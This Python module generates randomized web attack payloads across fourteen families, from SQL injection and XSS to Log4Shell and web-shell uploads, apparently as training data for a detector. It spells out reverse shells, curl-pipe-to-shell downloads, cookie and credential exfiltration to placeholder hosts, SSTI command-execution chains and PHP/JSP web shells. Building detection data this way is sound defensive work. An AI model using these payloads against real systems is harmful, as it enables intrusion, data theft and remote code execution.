"""Attack payloads of many families, built from parts so that no two runs share one list.

Each family is a function of a :class:`random.Random` that composes a payload from the
pieces its technique is made of (a context breaker, a core, a terminator; a scheme, a host
notation, a path; a separator, a command, a space substitute), so a model trained on some
of them meets combinations it was never shown. :func:`payload` adds the encodings an
attacker uses against filters (URL-encoding once or twice, case tricks where the target is
case-insensitive). The generators (:mod:`trainer.generate`, :mod:`trainer.sites`) graft
these into the *same* routes and parameters as benign traffic, in the query and in bodies.

Written from the public descriptions of each technique:

* SQL injection: OWASP SQL Injection Prevention Cheat Sheet; PortSwigger Web Security
  Academy, "SQL injection cheat sheet" (per-dialect time delays, comments, errors, stacking).
* XSS: OWASP XSS Filter Evasion Cheat Sheet; PortSwigger "Cross-site scripting cheat sheet"
  (tags, event handlers, ``javascript:`` URIs with entities and control characters).
* OS command injection: OWASP OS Command Injection Defense Cheat Sheet; PayloadsAllTheThings
  "Command Injection" (separators, ``$()``, backticks, ``${IFS}``, brace expansion, quoting).
* SSRF: OWASP Server-Side Request Forgery Prevention Cheat Sheet; PayloadsAllTheThings
  "Server Side Request Forgery" (cloud metadata endpoints, alternate IPv4 notations, schemes).
* Path traversal: OWASP "Path Traversal"; PayloadsAllTheThings "Directory Traversal"
  (encodings, overlong UTF-8, ``....//``, null bytes).
* Server-side template injection: PortSwigger "Server-side template injection";
  PayloadsAllTheThings "Server Side Template Injection" (Jinja2, Twig, Freemarker,
  Velocity, ERB, Smarty, Thymeleaf/SpEL, Mako, Tornado, Pug).
* XXE: OWASP XML External Entity Prevention Cheat Sheet (external, parameter entities, XInclude).
* LDAP injection: RFC 4515 filter syntax; OWASP LDAP Injection Prevention Cheat Sheet.
* XPath injection: W3C XPath 1.0; OWASP "XPATH Injection".
* NoSQL injection: MongoDB query operator reference; PayloadsAllTheThings "NoSQL Injection".
* CRLF / header injection: RFC 9112 message syntax; OWASP "CRLF Injection".
* Prototype pollution: PortSwigger "Prototype pollution" (``__proto__``, ``constructor.prototype``).
* Log4Shell: CVE-2021-44228 and the Apache Log4j security page (lookups, nested obfuscation).
* Web-shell upload: OWASP File Upload Cheat Sheet (double extensions, null bytes, handlers).

Addresses come from the documentation ranges (RFC 5737, RFC 3849) and domains from
``example``/``oast.example``, so nothing here points at a real host.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote


@dataclass(frozen=True)
class Payload:
    """An attack's value, and the parameter name it needs when the name is the attack."""

    value: Any  # a string, or a JSON structure for bodies (NoSQL operators, pollution)
    key: str | None = None


def _ip(r: random.Random) -> str:
    return r.choice(["203.0.113.", "198.51.100.", "192.0.2."]) + str(r.randint(1, 254))


def _host(r: random.Random) -> str:
    return r.choice([_ip(r), f"{r.choice(['x', 'cb', 'a1', 'collab', 'oob'])}{r.randint(1, 999)}.oast.example"])


def _n(r: random.Random, low: int = 1, high: int = 9) -> int:
    return r.randint(low, high)


# --- SQL injection -----------------------------------------------------------------------
_SQL_BREAK = ["'", '"', "')", "'))", "1'", "1", "1)", "-1", "%'", "x'", '")', "0", "9999'"]
_SQL_END = ["--", "-- -", "#", "/*", ";--", "", "", "%00", "-- x"]
# fmt: off
_SQL_TABLES = ["users", "information_schema.tables", "mysql.user", "pg_shadow", "sys.objects", "all_tables",
               "sqlite_master", "accounts", "admin", "information_schema.columns"]
# fmt: on
_SQL_COLS = ["username", "password", "passwd", "email", "table_name", "column_name", "name", "pass", "hash"]


def sqli(r: random.Random) -> Payload:
    n = _n(r, 1, 99)
    table, col = r.choice(_SQL_TABLES), r.choice(_SQL_COLS)
    sleep = _n(r, 2, 15)
    cores = [
        f"OR {n}={n}",
        "OR 1=1",
        f"OR '{chr(97 + n % 26)}'='{chr(97 + n % 26)}",
        "OR true",
        f"AND {n}={n + 1}",
        f"|| {n}={n}",
        "OR 'x' LIKE 'x",
        f"UNION SELECT {','.join(['NULL'] * _n(r, 1, 6))}",
        f"UNION ALL SELECT {col},{r.choice(_SQL_COLS)} FROM {table}",
        f"UNION SELECT @@version,{n}",
        f"AND SLEEP({sleep})",
        f"AND (SELECT {n} FROM (SELECT(SLEEP({sleep})))a)",
        f"AND BENCHMARK({n}000000,MD5({n}))",
        f"; SELECT pg_sleep({sleep})",
        f"AND {n}=(SELECT {n} FROM PG_SLEEP({sleep}))",
        f"; WAITFOR DELAY '0:0:{sleep}'",
        f"AND {n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{sleep})",
        f"AND {n}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({sleep}00000000/2))))",
        "AND extractvalue(1,concat(0x7e,(SELECT database())))",
        f"AND updatexml(1,concat(0x7e,(SELECT {col} FROM {table} LIMIT 1)),1)",
        "AND 1=CONVERT(int,@@version)",
        "AND 1=CAST((SELECT version()) AS int)",
        f"; DROP TABLE {table}",
        f"; INSERT INTO {table} VALUES('x','y')",
        "; EXEC xp_cmdshell('whoami')",
        f"; UPDATE users SET {col}='x' WHERE 1=1",
        f"ORDER BY {n}",
        f"AND SUBSTRING((SELECT {col} FROM {table} LIMIT 1),1,1)='a'",
        f"AND ASCII(SUBSTR((SELECT user()),{n},1))>{n + 60}",
        "HAVING 1=1",
        f"AND (SELECT COUNT(*) FROM {table})>0",
    ]
    core = r.choice(cores)
    if r.random() < 0.2:
        core = core.replace(" ", r.choice(["/**/", "\t", "\n", "+", "%20"]))
    return Payload(f"{r.choice(_SQL_BREAK)} {core}{r.choice(_SQL_END)}".lstrip())


# --- cross-site scripting ---------------------------------------------------------------
# fmt: off
_XSS_SINK = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm`1`", "alert(String.fromCharCode(88,83,83))",
             "fetch('//{h}/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))",
             "document.location='//{h}/?c='+document.cookie",
             "new Image().src='//{h}/'+document.cookie", "top['al'+'ert'](1)", "print()", "(alert)(1)",
             "window.onerror=alert;throw 1", "import('//{h}/x.js')"]
_XSS_BREAK = ["", "", '">', "'>", "</textarea>", "</title>", "-->", '"/>', "</script>", "'\">"]
_XSS_EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
               "onbegin", "onclick", "onauxclick", "onwheel", "onpageshow", "onresize", "onstart"]
# fmt: on


_JS_SCHEMES = ["javascript:", "jav&#x09;ascript:", "&#106;avascript:", "java\nscript:", "JaVaScRiPt:"]


def xss(r: random.Random) -> Payload:
    sink = r.choice(_XSS_SINK).replace("{h}", _host(r))
    event = r.choice(_XSS_EVENTS)
    space = r.choice([" ", " ", "/", "\t", "\n", "%09"])
    forms = [
        f"<script>{sink}</script>",
        f"<script src=//{_host(r)}/x.js></script>",
        f"<img{space}src=x{space}{event}={sink}>",
        f"<svg{space}onload={sink}>",
        f"<svg><animate {event}={sink} attributeName=x dur=1s>",
        f"<body {event}={sink}>",
        f"<iframe src=javascript:{sink}>",
        f"<details open ontoggle={sink}>",
        f"<video><source onerror={sink}>",
        f"<input autofocus onfocus={sink}>",
        f'<a href="{r.choice(_JS_SCHEMES)}{sink}">x</a>',
        f"<math><mtext><table><mglyph><style><img src=x onerror={sink}>",
        f"<marquee onstart={sink}>",
        f"<object data=javascript:{sink}>",
        f"javascript:{sink}",
        f"'-{sink}-'",
        f'";{sink};//',
        f"<div style=animation-name:x {event}={sink}>",
    ]
    text = r.choice(_XSS_BREAK) + r.choice(forms)
    if r.random() < 0.15:
        text = "".join(f"&#{ord(c)};" if c.isalpha() and r.random() < 0.3 else c for c in text)
    return Payload(text)


# --- OS command injection ---------------------------------------------------------------
_CMD_SEP = [";", "|", "||", "&", "&&", "\n", "%0a", "\r\n", "`", "$("]
# fmt: off
_CMD_UNIX = ["cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", "sleep {s}", "ping -c {s} {h}",
             "curl {h}/x.sh|sh", "wget http://{h}/b -O /tmp/b", "nc -e /bin/sh {h} {p}", "nslookup {h}",
             "bash -i >& /dev/tcp/{h}/{p} 0>&1", "cat /proc/self/environ", "echo $(({a}+{b}))", "rm -rf /tmp/*",
             "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print \"x\"'", "chmod +x /tmp/b"]
_CMD_WIN = ["type C:\\Windows\\win.ini", "dir C:\\", "net user", "whoami /all", "powershell -enc SQBFAFgA",
            "certutil -urlcache -f http://{h}/x.exe x.exe", "ping -n {s} {h}"]
# fmt: on


def cmdi(r: random.Random) -> Payload:
    cmd = r.choice(_CMD_UNIX if r.random() < 0.8 else _CMD_WIN)
    cmd = cmd.format(s=_n(r, 2, 20), h=_host(r), p=r.randint(1024, 65535), a=_n(r), b=_n(r))
    if " " in cmd and r.random() < 0.3:
        cmd = cmd.replace(" ", r.choice(["${IFS}", "$IFS$9", "<", "%09"]), 1 if r.random() < 0.5 else -1)
    if r.random() < 0.15 and cmd[:1].isalpha():
        word, _, rest = cmd.partition(" ")
        cmd = r.choice([f"{word[0]}'{word[1:]}'", f"{word[0]}\\{word[1:]}", f'{word[0]}""{word[1:]}']) + (
            " " + rest if rest else ""
        )
    sep = r.choice(_CMD_SEP)
    text = f"{sep}{cmd}`" if sep == "`" else f"{sep}{cmd})" if sep == "$(" else f"{sep}{r.choice(['', ' '])}{cmd}"
    if r.random() < 0.3:
        text = r.choice([str(_n(r, 1, 999)), "127.0.0.1", "x", "file.txt"]) + text
    return Payload(text)


# --- server-side request forgery ---------------------------------------------------------
# fmt: off
_LOOPBACK = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "127.1", "2130706433", "0x7f000001", "0177.0.0.1",
             "[::ffff:127.0.0.1]", "127.0.0.1.nip.io", "0", "[0:0:0:0:0:ffff:127.0.0.1]", "017700000001"]
# fmt: on
_METADATA = [
    "169.254.169.254/latest/meta-data/iam/security-credentials/",
    "169.254.169.254/latest/user-data",
    "metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "169.254.169.254/metadata/instance?api-version=2021-02-01",
    "100.100.100.200/latest/meta-data/",
    "169.254.170.2/v2/credentials",
    "[fd00:ec2::254]/latest/meta-data/",
    "2852039166/latest/meta-data/",
    "0xa9fea9fe/latest/meta-data/",
]
# fmt: off
_INTERNAL_PORTS = [":6379/", ":2375/containers/json", ":11211/_stats", ":8500/v1/agent/self", ":9200/_cat/indices",
                   ":22/", ":5984/_all_dbs", "/admin", "/server-status", ":8080/manager/html", ":10250/pods",
                   ":2379/v2/keys"]
# fmt: on


def ssrf(r: random.Random) -> Payload:
    scheme = r.choices(
        ["http", "https", "gopher", "dict", "file", "ftp", "ldap", "tftp", "jar:http", "netdoc"],
        weights=[10, 3, 2, 2, 2, 1, 1, 1, 1, 1],
    )[0]
    if scheme in ("file", "netdoc"):
        return Payload(
            f"{scheme}://{r.choice(['/etc/passwd', '/proc/self/environ', '/c:/windows/win.ini', '/etc/hosts'])}"
        )
    choice = r.random()
    if choice < 0.4:
        target = r.choice(_METADATA)
    elif choice < 0.8:
        target = r.choice(_LOOPBACK) + r.choice(_INTERNAL_PORTS)
    else:
        private = r.choice(
            [
                f"10.{_n(r, 0, 255)}.{_n(r, 0, 255)}.{_n(r)}",
                f"192.168.{_n(r, 0, 9)}.{_n(r)}",
                f"172.16.{_n(r, 0, 31)}.{_n(r)}",
            ]
        )
        target = private + r.choice(_INTERNAL_PORTS)
    if scheme == "gopher":
        target = target.split("/")[0] + "/_" + r.choice(["stats", "INFO%0d%0a", "SET%20x%201%0d%0a"])
    if r.random() < 0.15:
        target = r.choice(["example.com@", "trusted.example#@", "user:pass@"]) + target
    return Payload(f"{scheme}://{target}")


# --- path traversal ----------------------------------------------------------------------
# fmt: off
_UP = ["../", "..\\", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "....//", "..%5c",
       "%2e%2e%5c", "..;/", "..%252f", ".%2e/", "..\\/"]
_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "windows/win.ini",
            "boot.ini", "WEB-INF/web.xml", "var/log/apache2/access.log", ".env", ".git/config", "etc/issue",
            "root/.ssh/id_rsa", "app/config/parameters.yml", "inetpub/wwwroot/web.config",
            ".aws/credentials"]
# fmt: on


def traversal(r: random.Random) -> Payload:
    up = r.choice(_UP)
    target = r.choice(_TARGETS)
    if "\\" in up or "5c" in up:
        target = target.replace("/", "\\")
    text = up * _n(r, 2, 9) + target
    roll = r.random()
    if roll < 0.15:
        text += r.choice(["%00", "%00.jpg", "%00.png", "\x00.pdf"])
    elif roll < 0.25:
        text = r.choice(["/", "file:///", "C:\\", "/var/www/../../"]) + target
    if r.random() < 0.2:
        text = r.choice(["images/", "static/", "download?f=", "uploads/"]) + text
    return Payload(text)


# --- server-side template injection -----------------------------------------------------
def ssti(r: random.Random) -> Payload:
    a, b = _n(r, 2, 99), _n(r, 2, 99)
    cmd = r.choice(["id", "whoami", "cat /etc/passwd", "uname -a", f"curl {_host(r)}"])
    forms = [
        f"{{{{{a}*{b}}}}}",
        f"${{{a}*{b}}}",
        f"#{{{a}*{b}}}",
        f"<%= {a}*{b} %>",
        f"{{{{{a}*'{b}'}}}}",
        "{{config}}",
        "{{config.items()}}",
        f"{{{{cycler.__init__.__globals__.os.popen('{cmd}').read()}}}}",
        f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        f"{{{{lipsum.__globals__['os'].popen('{cmd}').read()}}}}",
        f'{{{{_self.env.registerUndefinedFilterCallback("exec")}}}}{{{{_self.env.getFilter("{cmd}")}}}}',
        f"{{{{['{cmd}']|filter('system')}}}}",
        f'<#assign ex="freemarker.template.utility.Execute"?new()>${{ex("{cmd}")}}',
        f"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{cmd}')",
        f"<%= `{cmd}` %>",
        f"<%= system('{cmd}') %>",
        f"{{system('{cmd}')}}",
        f"{{php}}echo `{cmd}`;{{/php}}",
        f"*{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f'${{self.module.cache.util.os.system("{cmd}")}}',
        f"{{% import os %}}{{{{os.system('{cmd}')}}}}",
        f"#{{global.process.mainModule.require('child_process').execSync('{cmd}')}}",
        "{{constructor.constructor('return process')().exit()}}",
    ]
    return Payload(r.choice(forms))


# --- XML external entities --------------------------------------------------------------
def xxe(r: random.Random) -> Payload:
    root = r.choice(["r", "foo", "data", "user", "order", "xml", "root", "stockCheck"])
    ent = r.choice(["x", "xxe", "e", "file", "ent"])
    target = r.choice(
        [
            "file:///etc/passwd",
            "file:///c:/windows/win.ini",
            f"http://{_host(r)}/x.dtd",
            "php://filter/convert.base64-encode/resource=index.php",
            "expect://id",
            "file:///proc/self/environ",
        ]
    )
    forms = [
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY {ent} SYSTEM "{target}">]><{root}>&{ent};</{root}>',
        f'<!DOCTYPE {root} [<!ENTITY % {ent} SYSTEM "{target}"> %{ent};]><{root}/>',
        f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{target}"><{root}>1</{root}>',
        f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{target}"/></{root}>',
        f'<!DOCTYPE {root} [<!ENTITY {ent} PUBLIC "x" "{target}">]><{root}>&{ent};</{root}>',
    ]
    return Payload(r.choice(forms))


# --- LDAP injection ---------------------------------------------------------------------
def ldap(r: random.Random) -> Payload:
    attr = r.choice(["uid", "cn", "mail", "userPassword", "objectClass", "sn", "sAMAccountName", "memberOf"])
    name = r.choice(["admin", "*", "jdoe", "root", "x"])
    forms = [
        f"*)({attr}=*))(|({attr}=*",
        f"{name})(&({attr}=*))",
        "*)(|(objectClass=*)",
        f"{name})(!(&(1=0",
        "*))%00",
        f"{name}*)(|({attr}=*)",
        f"*)({attr}=*)(|(cn=*",
        f"{name})(|({attr}=*)(cn=*))",
        f"(&({attr}={name})(|(objectClass=*)))",
    ]
    return Payload(r.choice(forms))


# --- XPath injection --------------------------------------------------------------------
def xpath(r: random.Random) -> Payload:
    node = r.choice(["user", "account", "password", "name", "role", "*"])
    n = _n(r, 1, 12)
    forms = [
        "' or '1'='1",
        "' or 1=1 or ''='",
        f"x' or name()='{node}' or 'x'='y",
        f"']|//{node}/*[contains(*,'",
        f"' and count(/*)={n} and '1'='1",
        f"' or string-length(name(/*[1]))={n} or '",
        f"' or substring(//{node}[1]/text(),1,1)='a",
        f"1 or 1=1]|//{node}",
        f"')] | //{node}[('1'='1",
        f"' or count(//{node})>0 or '",
        f"//{node}[position()={n}]/text()",
    ]
    return Payload(r.choice(forms))


# --- NoSQL injection --------------------------------------------------------------------
def nosql(r: random.Random) -> Payload:
    op = r.choice(["$ne", "$gt", "$regex", "$where", "$in", "$exists", "$nin", "$expr", "$gte"])
    arg: Any = {
        "$ne": r.choice([None, "", "x", 1]),
        "$gt": "",
        "$gte": "",
        "$regex": r.choice([".*", "^a", "^adm", ".{8}"]),
        "$where": r.choice([f"sleep({_n(r, 1, 9)}000)", "this.password.match(/^a/)", "return true"]),
        "$in": ["admin", "root", "administrator"][: _n(r, 1, 3)],
        "$exists": True,
        "$nin": [],
        "$expr": {"$eq": [1, 1]},
    }[op]
    roll = r.random()
    if roll < 0.45:
        return Payload({op: arg})  # a JSON body field holding an operator
    if roll < 0.7:
        return Payload(
            r.choice(["1", "true", "x", ""]), key=f"{r.choice(['username', 'password', 'user', 'id'])}[{op}]"
        )
    return Payload(
        r.choice(
            [
                "' || '1'=='1",
                "';return true;var x='",
                "'; while(true){}'",
                f"'; sleep({_n(r)}000); '",
                "1; return this.password",
                '{"$gt":""}',
                '{"$ne":null}',
                "[$regex]=.*",
                "' && this.password.match(/.*/)//",
            ]
        )
    )


# --- CRLF / header injection ------------------------------------------------------------
def crlf(r: random.Random) -> Payload:
    nl = r.choice(["%0d%0a", "\r\n", "%0a", "\n", "%E5%98%8A%E5%98%8D", "%0D%0A", "\\r\\n", "%5cr%5cn"])
    header = r.choice(
        [
            f"Set-Cookie: session={_n(r, 1000, 9999)}",
            f"Location: http://{_host(r)}/",
            "X-Injected: 1",
            f"Content-Length: 0{nl}{nl}HTTP/1.1 200 OK",
            f"{nl}<script>alert(1)</script>",
            "Access-Control-Allow-Origin: *",
            f"Refresh: 0; url=http://{_host(r)}/",
        ]
    )
    prefix = r.choice(["", "", "/", "en", "home", str(_n(r, 1, 99))])
    return Payload(f"{prefix}{nl}{header}")


# --- prototype pollution ----------------------------------------------------------------
def prototype(r: random.Random) -> Payload:
    prop = r.choice(["isAdmin", "admin", "polluted", "role", "shell", "NODE_OPTIONS", "execArgv", "outputFunctionName"])
    value = r.choice(["true", "1", "admin", "/proc/self/environ", "x;process.mainModule.require('child_process')"])
    roll = r.random()
    if roll < 0.4:
        return Payload({"__proto__": {prop: value}})
    if roll < 0.55:
        return Payload({"constructor": {"prototype": {prop: value}}})
    path = r.choice(
        [
            f"__proto__[{prop}]",
            f"__proto__.{prop}",
            f"constructor[prototype][{prop}]",
            f"constructor.prototype.{prop}",
            f"__pro__proto__to__[{prop}]",
        ]
    )
    return Payload(value, key=path)


# --- Log4Shell --------------------------------------------------------------------------
def log4shell(r: random.Random) -> Payload:
    proto = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"])
    where = f"{_host(r)}{r.choice(['', ':1389', ':1099', ':53'])}/{r.choice(['a', 'Exploit', 'x', 'o=tomcat'])}"
    jndi = r.choice(
        [
            "jndi",
            "${lower:j}ndi",
            "${::-j}${::-n}${::-d}${::-i}",
            "${env:NaN:-j}ndi",
            "j${::-n}di",
            "${upper:j}${lower:n}di",
            "${lower:j}${lower:n}${lower:d}${lower:i}",
        ]
    )
    sep = r.choice([":", "${::-:}", "${env:X:-:}"])
    if r.random() < 0.2:
        where = f"${{{r.choice(['env:AWS_SECRET_ACCESS_KEY', 'sys:java.version', 'env:USER', 'hostName'])}}}.{where}"
    text = f"${{{jndi}{sep}{proto}://{where}}}"
    if r.random() < 0.2:
        head = r.choice(["${${lower:${lower:j}}ndi:", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:"])
        text = f"{head}{proto}://{where}}}"
    return Payload(text)


# --- web-shell uploads ------------------------------------------------------------------
def webshell(r: random.Random) -> Payload:
    name = r.choice(["shell", "cmd", "x", "upload", "image", "avatar", "c99", "r57", "b374k"])
    filename = name + r.choice(
        [
            ".php",
            ".phtml",
            ".php5",
            ".php.jpg",
            ".asp;.jpg",
            ".jsp",
            ".aspx",
            ".php%00.png",
            ".pHp",
            ".phar",
            ".jspx",
            ".cer",
            ".shtml",
        ]
    )
    if r.random() < 0.08:
        filename = ".htaccess"
    code = r.choice(
        [
            "<?php system($_GET['cmd']); ?>",
            "<?=`$_GET[0]`?>",
            "<?php eval($_POST['x']); ?>",
            "GIF89a;<?php passthru($_REQUEST['c']); ?>",
            "<?php echo shell_exec($_GET['e']); ?>",
            '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
            '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>',
            "<?php @assert($_POST['a']); ?>",
            "AddType application/x-httpd-php .jpg",
            '<!--#exec cmd="id" -->',
        ]
    )
    roll = r.random()
    if roll < 0.35:
        return Payload({"filename": filename, "content": code})
    if roll < 0.6:
        return Payload(filename)
    return Payload(code)


FAMILY_BUILDERS: dict[str, Callable[[random.Random], Payload]] = {
    "sqli": sqli,
    "xss": xss,
    "cmdi": cmdi,
    "ssrf": ssrf,
    "traversal": traversal,
    "ssti": ssti,
    "xxe": xxe,
    "ldap": ldap,
    "xpath": xpath,
    "nosql": nosql,
    "crlf": crlf,
    "prototype": prototype,
    "log4shell": log4shell,
    "webshell": webshell,
}
ATTACK_FAMILIES: tuple[str, ...] = tuple(FAMILY_BUILDERS)
_CASE_INSENSITIVE = {"sqli", "xss", "ldap", "xpath", "webshell"}  # targets that ignore case (SQL keywords, HTML)


def payload(r: random.Random, family: str) -> Payload:
    """One payload of ``family``, sometimes URL-encoded (once or twice) or with its case mixed."""
    try:
        built = FAMILY_BUILDERS[family](r)
    except KeyError:
        raise ValueError(f"unknown attack family {family!r}; known: {', '.join(ATTACK_FAMILIES)}") from None
    if not isinstance(built.value, str):
        return built
    text = built.value
    roll = r.random()
    if roll < 0.15:
        text = quote(text, safe="")
    elif roll < 0.2:
        text = quote(quote(text, safe=""), safe="")
    elif roll < 0.3:
        text = quote(text, safe="/:=&?")  # only the characters a browser would encode
    elif roll < 0.45 and family in _CASE_INSENSITIVE:
        text = "".join(c.upper() if r.random() < 0.5 else c.lower() for c in text)
    return Payload(text, built.key)


def graft(event: dict[str, Any], family: str, r: random.Random) -> dict[str, Any]:
    """A copy of a benign request with one of its values (query or body field) replaced by an attack.

    A request with no parameter gets one (``q`` in its query): the attack then arrives on the
    site's own route, as a scanner would send it. Structured payloads keep their structure
    in a JSON body and are written as JSON text in a query or form.
    """
    made = payload(r, family)
    out = dict(event)
    query = dict(out.get("query") or {})
    body = out.get("requestPayload")
    body = dict(body) if isinstance(body, dict) else None
    fields = [("query", k) for k in query] + [("body", k) for k in (body or {})]
    where, name = r.choice(fields) if fields else ("query", "q")
    if made.key is not None:
        name = made.key
    if where == "body" and body is not None:
        body[name] = made.value
        out["requestPayload"] = body
    else:
        query[name] = made.value if isinstance(made.value, str) else json.dumps(made.value)
        out["query"] = query
    return out
